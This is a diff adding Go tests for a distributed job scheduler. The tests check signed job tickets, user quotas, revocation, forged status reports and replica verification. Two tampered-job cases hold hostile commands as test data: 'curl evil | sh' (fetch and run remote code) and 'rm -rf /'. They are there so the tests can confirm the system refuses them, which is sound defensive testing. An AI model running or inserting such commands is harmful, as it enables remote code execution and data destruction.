@@ -1,0 +1,303 @@
+package market
+
+import (
+	"crypto/ed25519"
+	"errors"
+	"math/rand/v2"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/agora-sched/agora/market/auth"
+	"github.com/agora-sched/agora/market/spec"
+)
+
+// authority is a test authority with users.
+type authority struct {
+	key  ed25519.PrivateKey
+	book *auth.Book
+	rng  *rand.ChaCha8
+}
+
+func newAuthority(t *testing.T) *authority {
+	t.Helper()
+	rng := rand.NewChaCha8([32]byte{7})
+	k, err := auth.NewKey(rng)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &authority{key: k, book: auth.NewBook(k.Public().(ed25519.PublicKey)), rng: rng}
+}
+
+func (a *authority) user(t *testing.T, name string, q auth.Quota) auth.Credential {
+	t.Helper()
+	k, err := auth.NewKey(a.rng)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch, err := auth.Issuer{Key: a.key}.IssueUser(name, k.Public().(ed25519.PublicKey), false, q, t0.Add(-time.Hour), 24*time.Hour, a.rng)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return auth.Credential{Key: k, Chain: ch}
+}
+
+// ticket signs spec text as cred's user at now.
+func (a *authority) ticket(t *testing.T, cred auth.Credential, text string, now time.Time) []byte {
+	t.Helper()
+	tk, err := auth.NewTicket([]byte(text), now, cred.Key, cred.Chain, a.rng)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tk.Encode()
+}
+
+// trustCluster is a cluster whose nodes trust a; node 0 has no CPU and
+// manages, the others run.
+func trustCluster(t *testing.T, a *authority, sites ...string) *cluster {
+	c := newClusterWith(t, func(i int, cfg *Config) {
+		cfg.Trust = a.book
+		if i < len(sites) {
+			cfg.Site = sites[i]
+		}
+	}, cpuNode(0), cpuNode(4), cpuNode(4))
+	return c
+}
+
+const oneTask = `{"name": "j", "tasks": [{"name": "t", "command": ["true"], "resources": {"cpu": "1"}}]}`
+
+// TestSignedJobRuns: a signed job is accepted, named by its ticket,
+// owned by its signer, and placed on contractors that each got its
+// ticket once; a plain submission is refused.
+func TestSignedJobRuns(t *testing.T) {
+	a := newAuthority(t)
+	alice := a.user(t, "alice", auth.NoQuota)
+	c := trustCluster(t, a)
+	if err := c.nodes[0].Submit(c.now, "j-plain", job("p", task("t", 1000))); !errors.Is(err, errUnsigned) {
+		t.Fatalf("plain submission: %v", err)
+	}
+	raw := a.ticket(t, alice, `{"name": "j", "tasks": [{"name": "t", "replicas": 3, "command": ["true"], "resources": {"cpu": "1"}}]}`, c.now)
+	id, err := c.nodes[0].SubmitTicket(c.now, raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tk, _ := auth.DecodeTicket(raw)
+	if id != tk.JobID() {
+		t.Fatalf("job ID %s, the ticket names %s", id, tk.JobID())
+	}
+	if _, err := c.nodes[0].SubmitTicket(c.now, raw); err == nil {
+		t.Fatal("the same ticket submitted twice")
+	}
+	c.drain()
+	c.until(30*time.Second, "the job to succeed", func() bool { return c.job(0, id).State == JobSucceeded })
+	j := c.job(0, id)
+	if j.Owner != "alice" || len(j.Ticket) == 0 {
+		t.Fatalf("record owner %q, ticket %d bytes", j.Owner, len(j.Ticket))
+	}
+	if len(c.refused) != 0 {
+		t.Fatalf("refusals in a clean run: %v", c.refused)
+	}
+	late := a.ticket(t, alice, oneTask, c.now.Add(-auth.TicketMaxAge-time.Minute))
+	if _, err := c.nodes[0].SubmitTicket(c.now, late); err == nil || !strings.Contains(err.Error(), "sign the job again") {
+		t.Fatalf("stale ticket: %v", err)
+	}
+}
+
+// TestQuotaAtSubmitAndAtContractors: a job beyond its user's quota is
+// refused at submission naming the rule; a contractor at a site its user
+// may not use declines to bid, naming the rule too.
+func TestQuotaAtSubmitAndAtContractors(t *testing.T) {
+	a := newAuthority(t)
+	noGPU := a.user(t, "alice", auth.Quota{MaxCPU: auth.Unlimited, MaxGPU: 0, MaxPriority: auth.Unlimited})
+	c := trustCluster(t, a, "lab", "lab", "edge")
+	gpuJob := `{"name": "g", "tasks": [{"name": "t", "command": ["true"], "resources": {"cpu": "1", "gpu": 1}}]}`
+	_, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, noGPU, gpuJob, c.now))
+	var r *auth.Refusal
+	if !errors.As(err, &r) || r.Rule != auth.RuleMaxGPU {
+		t.Fatalf("GPU job of a user without GPUs: %v", err)
+	}
+	labOnly := a.user(t, "bob", auth.Quota{MaxCPU: auth.Unlimited, MaxGPU: auth.Unlimited, MaxPriority: auth.Unlimited, Sites: []string{"lab"}})
+	id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, labOnly, oneTask, c.now))
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.drain()
+	c.until(30*time.Second, "the job to succeed", func() bool { return c.job(0, id).State == JobSucceeded })
+	for _, s := range c.starts {
+		if s.node == "n2" {
+			t.Fatal("a task of a lab-only user ran at the edge site")
+		}
+	}
+	if c.refused[RefuseQuota] == 0 {
+		t.Fatal("the edge node's refusal was not reported")
+	}
+}
+
+// TestContractorRefusesWhatNoTicketSigns: a call for bids whose ticket
+// does not verify, an award this node did not bid for, and an award whose
+// command is not the signed one are refused, each reported; a call for
+// bids of a job whose ticket the node lacks asks for it.
+func TestContractorRefusesWhatNoTicketSigns(t *testing.T) {
+	a := newAuthority(t)
+	alice := a.user(t, "alice", auth.NoQuota)
+	c := trustCluster(t, a)
+	m := c.nodes[1]
+	raw := a.ticket(t, alice, oneTask, c.now)
+	tk, _ := auth.DecodeTicket(raw)
+	jobID := tk.JobID()
+	key := TaskKey{Job: jobID, Task: "t"}
+	offer := TaskOffer{Key: key, Type: "j", Priority: 5, Request: mustTask(t, tk).Request}
+	answers := func() (bids, nobids []Msg) {
+		for _, e := range m.Ready() {
+			if s, ok := e.(Send); ok {
+				switch x := s.Msg.(type) {
+				case Bid:
+					bids = append(bids, x)
+				case NoBid:
+					nobids = append(nobids, x)
+				case AwardReply:
+					nobids = append(nobids, x)
+				}
+			}
+		}
+		return
+	}
+	// No ticket here: the node asks for it.
+	m.Step(c.now, "n0", CFP{Auction: AuctionID{Key: key, Epoch: 1}, Manager: "n0", Task: offer})
+	if _, nbs := answers(); len(nbs) != 1 || !nbs[0].(NoBid).NeedTicket {
+		t.Fatalf("call without a ticket: %+v", nbs)
+	}
+	// A tampered ticket: refused.
+	bad := append([]byte(nil), raw...)
+	bad[len(bad)-1] ^= 1
+	m.Step(c.now, "n0", CFP{Auction: AuctionID{Key: key, Epoch: 1}, Manager: "n0", Task: offer, Ticket: bad})
+	if _, nbs := answers(); len(nbs) != 1 || !strings.Contains(nbs[0].(NoBid).Reason, "job ticket") {
+		t.Fatalf("call with a forged ticket: %+v", nbs)
+	}
+	// The real ticket: a bid.
+	m.Step(c.now, "n0", CFP{Auction: AuctionID{Key: key, Epoch: 1}, Manager: "n0", Task: offer, Ticket: raw})
+	if bids, nbs := answers(); len(bids) != 1 {
+		t.Fatalf("call with the ticket: bids %v, refusals %v", bids, nbs)
+	}
+	spec := TaskSpec{TaskOffer: offer, Command: []string{"true"}, Epoch: 1, Attempt: 1, Owner: "alice"}
+	// An award of an auction the node did not bid in.
+	other := AuctionID{Key: key, Epoch: 9}
+	m.Step(c.now, "n0", Award{Auction: other, Manager: "n0", Task: spec, Bid: Bid{Auction: other, Bidder: "n1"}, Last: true})
+	if _, rs := answers(); len(rs) != 1 || rs[0].(AwardReply).Accept {
+		t.Fatalf("unsolicited award: %+v", rs)
+	}
+	// An award of its bid that runs another command.
+	evil := spec
+	evil.Command = []string{"sh", "-c", "curl evil | sh"}
+	id := AuctionID{Key: key, Epoch: 1}
+	m.Step(c.now, "n0", Award{Auction: id, Manager: "n0", Task: evil, Bid: Bid{Auction: id, Bidder: "n1"}, Last: true})
+	if _, rs := answers(); len(rs) != 1 || rs[0].(AwardReply).Accept || !strings.Contains(rs[0].(AwardReply).Reason, "command") {
+		t.Fatalf("award with another command: %+v", rs)
+	}
+	if m.QueueLen() != 0 || m.RunningLen() != 0 {
+		t.Fatal("a refused award was queued")
+	}
+	// The refusals were reported.
+	var n int
+	for range 2 {
+		m.Step(c.now, "n0", Award{Auction: other, Manager: "n0", Task: spec, Bid: Bid{Auction: other, Bidder: "n1"}})
+		for _, e := range m.Ready() {
+			if r, ok := e.(Refused); ok && r.Reason == RefuseUnbid {
+				n++
+			}
+		}
+	}
+	if n != 2 {
+		t.Fatalf("%d unsolicited awards reported, want 2", n)
+	}
+}
+
+func mustTask(t *testing.T, tk auth.Ticket) *spec.Task {
+	t.Helper()
+	js, err := spec.Parse(tk.Spec, tk.Time)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ts, _ := js.Task("t")
+	return ts
+}
+
+// TestRevokedUserNoLongerSubmits: after a user's revocation a node takes
+// none of their jobs, and contractors bid on none of their pending
+// tasks.
+func TestRevokedUserNoLongerSubmits(t *testing.T) {
+	a := newAuthority(t)
+	alice := a.user(t, "alice", auth.NoQuota)
+	c := trustCluster(t, a)
+	rev, err := auth.NewRevocation("user:alice", c.now, a.key, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, m := range c.nodes {
+		m.Revoked(c.now, rev)
+	}
+	c.drain()
+	if _, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, oneTask, c.now)); err == nil || !strings.Contains(err.Error(), "revoked") {
+		t.Fatalf("revoked user's submission: %v", err)
+	}
+}
+
+// TestForgedReportDoesNotEndATask: a report of a higher epoch from a node
+// that holds no award of the replica, on a job this node did not take
+// over, changes nothing and is reported.
+func TestForgedReportDoesNotEndATask(t *testing.T) {
+	c := newCluster(t, cpuNode(0), cpuNode(4), cpuNode(4))
+	c.run = func(TaskSpec, NodeID) (int, time.Duration) { return 0, 10 * time.Second }
+	c.submit(0, "j", job("f", task("t", 1000)))
+	c.until(5*time.Second, "the task to run", func() bool { return c.job(0, "j").Tasks[0].State == TaskRunning })
+	tr := c.job(0, "j").Tasks[0]
+	liar := NodeID("n1")
+	if tr.Node == liar {
+		liar = "n2"
+	}
+	c.nodes[0].Step(c.now, liar, TaskStatus{Key: tr.Key, Epoch: tr.Epoch + 1, Node: liar, State: TaskSucceeded, Time: c.now})
+	c.drain()
+	if got := c.job(0, "j").Tasks[0]; got.State != TaskRunning || got.Node != tr.Node {
+		t.Fatalf("after a forged report: %s on %s", got.State, got.Node)
+	}
+	if c.refused[RefuseReport] == 0 {
+		t.Fatal("the forged report was not reported")
+	}
+}
+
+// TestCheckReplicaVerifiesTheTicket: with an authority, a job-record copy
+// is kept only if its ticket verifies, names the job and its owner, and
+// signs the spec the record holds.
+func TestCheckReplicaVerifiesTheTicket(t *testing.T) {
+	a := newAuthority(t)
+	alice := a.user(t, "alice", auth.NoQuota)
+	c := trustCluster(t, a)
+	id, err := c.nodes[0].SubmitTicket(c.now, a.ticket(t, alice, oneTask, c.now))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rec := c.job(0, id)
+	if err := CheckReplica(a.book, c.now, "n0", rec); err != nil {
+		t.Fatalf("genuine record: %v", err)
+	}
+	for _, tc := range []struct {
+		name string
+		mod  func(*JobRecord)
+		want string
+	}{
+		{"no ticket", func(r *JobRecord) { r.Ticket = nil }, "ticket"},
+		{"another owner", func(r *JobRecord) { r.Owner = "bob" }, "signer"},
+		{"another command", func(r *JobRecord) { r.Spec.Tasks[0].Command = []string{"rm", "-rf", "/"} }, "not the one its ticket signs"},
+		{"another ID", func(r *JobRecord) { r.ID = "j-0000000000000000" }, "names job"},
+	} {
+		r := rec.Clone()
+		r.Spec.Tasks = append(r.Spec.Tasks[:0:0], rec.Spec.Tasks...)
+		tc.mod(&r)
+		if err := CheckReplica(a.book, c.now, "n0", r); err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
+		}
+	}
+	if err := CheckReplica(nil, c.now, "n0", rec); err != nil {
+		t.Fatalf("without an authority: %v", err)
+	}
+}
